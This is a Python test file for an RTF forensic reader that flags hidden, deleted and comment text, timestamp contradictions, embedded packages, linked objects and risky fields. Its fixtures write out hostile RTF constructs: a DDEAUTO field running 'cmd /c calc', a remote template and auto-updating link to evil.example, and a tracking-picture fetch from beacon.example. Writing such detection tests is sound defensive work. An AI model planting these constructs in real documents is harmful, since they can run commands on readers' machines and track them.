"""Rich Text: properties, changes, hidden text, objects, what is fetched."""

from provenance.facts.model import Facts, Weight
from provenance.facts.office.rtf import read_rtf_facts
from tests.facts.office.compounds import compound
from tests.facts.reading import AT, codes, one, said

U = "Users"  # spelled apart: a path of somebody's machine stands in no file of this project
TIME = rb"{\%s\yr2004\mo5\dy6\hr%d\min4}"
INFO = (
    rb"{\info{\title Letter}{\author Joan Weber}{\operator Joan Weber}"
    + TIME % (b"creatim", 10)
    + TIME % (b"revtim", 12)
    + rb"{\version4}{\edmins90}{\nofpages1}{\*\company Firm}}"
)


def _read(body: bytes, info: bytes = INFO) -> Facts:
    facts = read_rtf_facts(rb"{\rtf1\ansi\ansicpg1252" + info + body + b"}", at=AT)
    assert facts.notes == (), facts.notes
    return facts


def test_an_honest_letter_states_itself() -> None:
    """Properties and dates are read; that the dates have no zone is said."""
    facts = _read(rb"{\*\generator Msftedit 5.41.21.2510;}\pard Dear Sir,\par")
    assert codes(facts) == {"date-without-zone"}
    assert facts.properties["info.author"] == "Joan Weber"
    assert facts.properties["info.creatim"] == "2004-05-06T10:04:00 (no zone)"
    assert facts.properties["info.edmins"] == "90"
    assert facts.properties["info.company"] == "Firm"
    assert facts.properties["info.generator"] == "Msftedit 5.41.21.2510"


def test_times_that_contradict_each_other() -> None:
    """More than two zones apart: modified before created; a program that did not exist."""
    info = INFO.replace(rb"\revtim\yr2004", rb"\revtim\yr2001")
    facts = _read(rb"{\*\generator Microsoft Word 11.0.5604;}x", info)
    assert codes(facts, Weight.CONTRADICTION) == {
        "modified-before-created",
        "program-newer-than-modified",
    }


def test_hidden_and_deleted_text_and_comments() -> None:
    """Text formatted as hidden, text that was deleted, a remark with its author."""
    dttm = 104 << 20 | 5 << 16 | 6 << 11 | 11 << 6 | 4
    facts = _read(
        rb"{\*\revtbl{Unknown;}{Eve;}}{\v the secret}{\deleted\revauthdel1\revdttmdel%d the old"
        rb" price}{\revised\revauth1 new}{\*\atnauthor Max}\chatn{\*\annotation are we sure?}"
        % dttm
    )
    assert '"the secret"' in one(facts, "hidden-text").text
    assert 'Deleted by "Eve", 2004-05-06T11:04:00 (no zone)' in one(facts, "deleted-text").text
    assert '"the old price"' in one(facts, "deleted-text").text
    assert '"Max": "are we sure?"' in one(facts, "comment-text").text


def test_characters_in_every_spelling() -> None:
    """Hexadecimal, code page and Unicode escapes become the characters they stand for."""
    facts = _read(rb"{\v \'e4\u1078?\u-10179\'3f\u-8704\'3f \{x\}}\uc0 p\u1072 yment")
    assert one(facts, "hidden-text").text.endswith('"ä\u0436\U0001f600 {x}".')
    assert "p\u0430yment" in one(facts, "mixed-scripts").text


def _object(form: int, name: bytes, topic: bytes, native: bytes) -> bytes:
    def counted(text: bytes) -> bytes:
        return len(text).to_bytes(4, "little") + text

    data = b"\1\5\0\0" + form.to_bytes(4, "little") + counted(name) + counted(topic) + counted(b"")
    return (data + counted(native)).hex().encode()


def test_objects_are_told_and_looked_into() -> None:
    """An embedded package gives up the path it came from; a link reveals the desk."""
    label = b"\x02\x00a.js\0" + f"C:\\{U}\\eve\\a.js\0".encode() + b"\0\0\3\0" + b"\1\0\0\0\0"
    label += b"\2\0\0\0hi"
    packed = compound({"\x01Ole10Native": len(label).to_bytes(4, "little") + label})
    linked = _object(1, b"Word.Document.8\0", b"http://evil.example/x.rtf\0", b"")
    facts = _read(
        rb"{\object\objemb{\*\objclass Package}{\*\objdata "
        + _object(2, b"Package\0", b"", packed)
        + rb"}}{\object\objemb{\*\objdata "
        + _object(2, b"Package\0", b"", label)
        + rb"}}{\object\objautlink\objupdate{\*\objdata "
        + linked[:40]
        + b"\n zz "
        + linked[40:]
        + rb"}}{\object\objocx}"
    )
    assert codes(facts, Weight.RISK) == {
        "linked-object",
        "remote-content",
        "self-updating-object",
        "active-x",
    }
    assert said(facts, "packed-file").count('"a.js", 2 bytes') == 2
    assert '"eve"' in said(facts, "local-path")


def test_template_fields_and_sessions() -> None:
    """A template from the net, a picture that is fetched, numbers of editing sessions."""
    facts = _read(
        rb"{\*\template http://evil.example/t.dot}{\*\rsidtbl \rsid10\rsid11255}"
        rb'{\field{\*\fldinst INCLUDEPICTURE "http://beacon.example/p.png"}{\fldrslt x}}'
        rb'{\field{\*\fldinst HYPERLINK "C:\\\\'
        + U.encode()
        + rb'\\\\joan\\\\x.doc"}}{\field{\*\fldinst DDEAUTO cmd "/c calc"}}\readprot'
    )
    assert "evil.example" in said(facts, "remote-content")
    assert "beacon.example" in said(facts, "remote-content")
    assert '"joan"' in one(facts, "local-path").text
    assert "dde-field" in codes(facts)
    assert "document-protection" in codes(facts)
    assert facts.properties["rsids.list"] == "0000000A 00002BF7"


def test_destinations_that_are_not_known_are_passed_over() -> None:
    """Fonts, colours and what a star marks are no text; binary data is skipped by its length."""
    facts = _read(
        rb"{\fonttbl{\f0 \v hidden font name;}}{\*\unknown{\v gone}}{\pict\bin6 \v\v}}x}seen"
    )
    assert codes(facts) == {"date-without-zone"}
